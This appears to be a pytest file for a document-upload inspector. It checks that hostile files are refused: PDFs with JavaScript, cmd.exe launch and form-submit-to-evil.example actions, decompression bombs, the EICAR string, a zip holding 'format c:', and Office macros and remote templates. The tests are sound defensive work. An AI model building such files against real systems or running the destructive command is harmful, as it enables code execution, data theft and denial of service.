"""A small zoo: good files pass, files made to harm are stopped with words, and only the inspector's child dies."""

import io
import os
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from motcua.kernel.errors import Refused
from motcua.rooms.documents import inspection, testing
from motcua.rooms.documents.services.files import judge
from motcua.rooms.documents.types import DOCX, XLSX, FileLimits, FileState, Verdict

LIMITS = FileLimits()
OFFICE = FileLimits(media_types=(DOCX, XLSX))


def pdf_with(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    change(pdf)
    return testing.saved(pdf, **options)


def javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def hidden_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=Stream(pdf, b"app.alert(1)")))


def launch(pdf: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.Launch, F=String("cmd.exe"))
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def embedded(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["virus.exe"] = b"MZ"


def xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<xdp/>"))


def submit_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.SubmitForm, F=String("http://evil.example")))


def rich_media(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))])


@pytest.mark.parametrize(
    ("change", "word"),
    [
        (javascript, "chương trình"),
        (hidden_javascript, "chương trình"),
        (launch, "mở chương trình khác"),
        (embedded, "tệp đính"),
        (xfa, "XFA"),
        (submit_form, "gửi dữ liệu"),
        (rich_media, "phim"),
    ],
)
def test_a_pdf_that_acts_is_refused_in_words(change: Callable[[pikepdf.Pdf], None], word: str) -> None:
    verdict = judge(pdf_with(change), LIMITS)

    assert (verdict.state, verdict.reason) == (FileState.REFUSED, "file.acts")
    assert word in Refused(verdict.reason, **verdict.reason_params).words("vi")


def plain_destination(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])


def web_link(pdf: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.URI, URI=String("https://example.vn")),
    )
    pdf.pages[0].obj.Annots = Array([link])


def plain_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]))


@pytest.mark.parametrize("change", [plain_destination, web_link, plain_form])
def test_an_ordinary_pdf_is_not_refused(change: Callable[[pikepdf.Pdf], None]) -> None:
    assert judge(pdf_with(change), LIMITS).state == FileState.CLEAN


def test_our_own_documents_are_clean() -> None:
    from motcua.rooms.documents import typesetting

    assert judge(typesetting.render("= Giấy xác nhận", {"title": "Giấy"}), LIMITS).state == FileState.CLEAN


@pytest.mark.parametrize("password", ["", "mật"])
def test_a_locked_pdf_is_refused(password: str) -> None:
    locked = pdf_with(lambda _: None, encryption=pikepdf.Encryption(user=password, owner="chủ", R=6))

    assert judge(locked, LIMITS).reason == "file.locked"


def test_too_many_pages_are_counted_in_the_words() -> None:
    verdict = judge(testing.small_pdf(12), FileLimits(max_pages=10))

    assert Refused(verdict.reason, **verdict.reason_params).words("vi").startswith("Tệp có 12 trang, tối đa 10 trang")


@pytest.mark.parametrize("body", [testing.small_pdf()[:150], b"%PDF-1.7\n" + os.urandom(3000), b"%PDF-1.7"])
def test_a_damaged_pdf_is_unreadable(body: bytes) -> None:
    assert judge(body, LIMITS) == Verdict(FileState.UNREADABLE, media_type="application/pdf", reason="file.broken-pdf")


def test_a_picture_cut_short_is_unreadable() -> None:
    assert judge(testing.small_jpeg(600, 600)[:-3000], LIMITS).reason == "file.broken-picture"


def test_a_picture_of_too_many_pixels_is_never_unpacked() -> None:
    header = struct.pack("!IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(bytes(1 << 20), 9))
        + _chunk(b"IEND", b"")
    )

    started = time.monotonic()
    verdict = judge(bomb, LIMITS)

    assert verdict.reason == "file.too-many-pixels"
    assert time.monotonic() - started < 30


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))


def object_stream_bomb() -> bytes:
    """An object stream of 40 KB that unpacks to 2 GB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1 << 24)) for _ in range(128)) + packer.flush()
    packed = zlib.compress(packed, 9)
    objects = (
        "1 0 obj<</Type/Catalog/Pages 2 0 R/X 5 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
        f"4 0 obj<</Length {len(packed)}/Filter[/FlateDecode/FlateDecode]>>stream\n"
    ).encode()
    return b"%PDF-1.5\n" + objects + packed + b"\nendstream endobj\ntrailer<</Root 1 0 R/Size 6>>\n%%EOF"


def test_a_decompression_bomb_kills_only_the_child() -> None:
    pid = _inspector_pid()
    started = time.monotonic()

    verdict = judge(object_stream_bomb(), LIMITS)

    assert verdict.state in {FileState.REFUSED, FileState.UNREADABLE}
    assert time.monotonic() - started < 120  # the child is stopped, however busy the machine
    assert judge(testing.small_pdf(), LIMITS).state == FileState.CLEAN
    assert _inspector_pid() == pid


def _inspector_pid() -> int:
    judge(testing.small_pdf(), LIMITS)
    process = inspection.inspector("files", os.getpid())._process
    assert process is not None
    return process.pid


def test_the_inspector_is_started_again_when_it_was_killed() -> None:
    os.kill(_inspector_pid(), 9)

    assert judge(testing.small_pdf(), LIMITS).state == FileState.CLEAN


def test_the_inspector_sees_no_secret_of_ours(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MOTCUA_SECRET_KEY", "0123456789-secret-0123456789-secret-0123456789")
    inspection.inspector("files", os.getpid()).stop()
    pid = _inspector_pid()

    with open(f"/proc/{pid}/environ", "rb") as environ:  # noqa: PTH123
        assert b"secret" not in environ.read()


def test_two_files_in_one_are_refused() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("run.bat", "format c:")

    assert judge(testing.small_jpeg() + archive.getvalue(), LIMITS).reason == "file.two-in-one"
    assert judge(testing.small_pdf() + archive.getvalue(), LIMITS).reason == "file.two-in-one"


def test_the_test_virus_is_refused() -> None:
    eicar = b"%PDF-1.4\nX5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

    assert judge(eicar, LIMITS).reason == "file.two-in-one"


def test_the_place_of_a_photograph_is_noted_and_left_out_of_what_officers_see() -> None:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (10.0, 46.0, 37.0)}
    exif[0x010F] = "Hãng máy ảnh"
    body = testing.small_jpeg(exif=exif.tobytes())

    verdict = judge(body, LIMITS)
    _, shown = inspection.ask("files", {"do": "page", "page": 1, "width": 200}, body)

    assert verdict.notes == ("gps",)
    assert Image.open(io.BytesIO(shown)).getexif() == {}
    assert b"GPS" not in shown


def office_file(extra: dict[str, bytes], main: str = "word/document.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr(main, "<w:document/>")
        for name, body in extra.items():
            z.writestr(name, body)
    return out.getvalue()


@pytest.mark.parametrize(
    ("body", "state", "reason"),
    [
        (office_file({}), FileState.CLEAN, ""),
        (office_file({}, "xl/workbook.xml"), FileState.CLEAN, ""),
        (office_file({"word/vbaProject.bin": b"x"}), FileState.REFUSED, "file.acts"),
        (office_file({"word/embeddings/oleObject1.bin": b"x"}), FileState.REFUSED, "file.acts"),
        (office_file({"word/media/a.bin": bytes(150 << 20)}), FileState.REFUSED, "file.too-heavy"),
        (
            office_file(
                {
                    "word/_rels/settings.xml.rels": b'<R Type="x/attachedTemplate" TargetMode="External" Target="http://e/"/>'
                }
            ),
            FileState.REFUSED,
            "file.acts",
        ),
    ],
)
def test_office_files_are_opened_as_archives_only(body: bytes, state: FileState, reason: str) -> None:
    verdict = judge(body, OFFICE)

    assert (verdict.state, verdict.reason) == (state, reason)


def test_office_files_are_refused_where_a_procedure_does_not_allow_them() -> None:
    assert judge(office_file({}), LIMITS).reason == "file.wrong-type"
